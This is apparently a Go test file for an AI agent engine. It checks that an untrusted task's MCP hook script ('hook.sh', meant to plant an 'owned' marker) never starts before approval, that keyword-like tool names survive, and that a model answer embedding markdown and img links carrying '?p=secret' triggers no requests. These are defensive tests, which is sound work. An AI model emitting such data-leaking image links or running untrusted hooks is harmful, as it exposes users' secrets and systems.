package assembly_test

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/codeact-dev/codeact/engine"
	"github.com/codeact-dev/codeact/engine/assembly"
)

// Listing the servers of a task started them. Whoever looks starts nothing, and
// neither does a task that nobody trusts.
func TestLookingAtATaskStartsNoServer(t *testing.T) {
	p := newPlace(t, head+ws+final+"mcpServers: {m: {command: ./hook.sh, timeout: 5s}}\n", nil)
	runnable(t, filepath.Join(p.dir, "hook.sh"), evil)
	started := func() bool { _, err := os.Stat(filepath.Join(p.dir, "owned")); return err == nil }
	p.must(t, func(o *assembly.Options) { o.Look = true })
	if started() {
		t.Error("looking started it")
	}
	digest := p.digest(t)
	if started() {
		t.Error("it was started before anybody trusted it")
	}
	r, err := p.open(t, func(o *assembly.Options) { o.Trust = digest })
	if err == nil {
		r.Close()
	}
	if !errors.Is(err, assembly.ErrPrecondition) || started() {
		t.Errorf("trusted, and not approved: started %v, %v", started(), err)
	}
}

// A rule whose name is one of the language's own made a whole file of settings
// vanish. A name is a name here.
func TestNamesOfTheLanguageAreNames(t *testing.T) {
	names := []string{"constructor", "tostring", "valueof", "prototype", "len", "init", "null", "true", "nil", "spec", "default", "self", "args", "call"}
	mocks, rules, overrides := "", "", ""
	for i, n := range names {
		mocks += fmt.Sprintf("  - {name: '%s', tier: 0, capabilities: [], effect: append, responses: [{value: ok, external: false}]}\n", n)
		overrides += fmt.Sprintf("'%s': {tier: 1}, ", n)
		rules += fmt.Sprintf("---\napiVersion: codeact.dev/v1\nkind: ToolCallPolicy\nmetadata: {name: '%s'}\nspec:\n  validations: [{expression: 'tool.name != \"%s\"', message: rule %d}]\n", n, n, i)
	}
	task := head + ws + final + "tools: {mock: tools.yaml, overrides: {" + overrides + "}}\npolicies: [p.yaml]\n"
	p := newPlace(t, task, map[string]string{"tools.yaml": "apiVersion: codeact.dev/v1\nkind: MockTools\neffects: effects.jsonl\ntools:\n" + mocks, "p.yaml": strings.TrimPrefix(rules, "---\n")})
	r, err := p.open(t, nil)
	if err != nil {
		t.Fatalf("a name that cannot be used must be refused by name: %v", err)
	}
	defer r.Close()
	if r.Policy.Rules() < len(names) || len(r.Tools) != len(names) {
		t.Errorf("%d rules and %d tools of %d", r.Policy.Rules(), len(r.Tools), len(names))
	}
	for _, tool := range r.Tools {
		if tool.Tier.Number() != 1 {
			t.Errorf("the override of %s is lost: tier %v", tool.Name, tool.Tier)
		}
	}
}

// B47: an answer named an image, and whoever showed it asked a stranger's server for
// it. Here an answer is text: what it names is asked for by nobody.
func TestB47WhatAnAnswerNamesIsNotLoaded(t *testing.T) {
	var hits atomic.Int32
	server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	defer server.Close()
	answer := "![a](" + server.URL + "/?p=secret) <img src='" + server.URL + "/x'>"
	task := head + ws + "model: {provider: scripted, script: [{code: 'print(x)\nfinal(x)'}]}\noutput: {file: out.md}\ntools: {builtin: [http_fetch]}\nsecurity: {blockPrivateIPs: false}\n"
	task = strings.ReplaceAll(task, "'print(x)\nfinal(x)'", fmt.Sprintf("%q", fmt.Sprintf("print(%q)\nfinal(%q)", answer, answer)))
	p := newPlace(t, task, map[string]string{"home": home + "permit: [private-ips]\n"})
	o := p.run(t, nil)
	if o.Status != engine.Completed || hits.Load() != 0 {
		t.Errorf("%s %s, and %d requests", o.Status, o.Reason, hits.Load())
	}
	if data, err := os.ReadFile(filepath.Join(p.dir, "ws/out.md")); err != nil || !strings.Contains(string(data), "![a]("+server.URL) {
		t.Errorf("the answer is %s, %v: it is to be seen where it leads", data, err)
	}
}
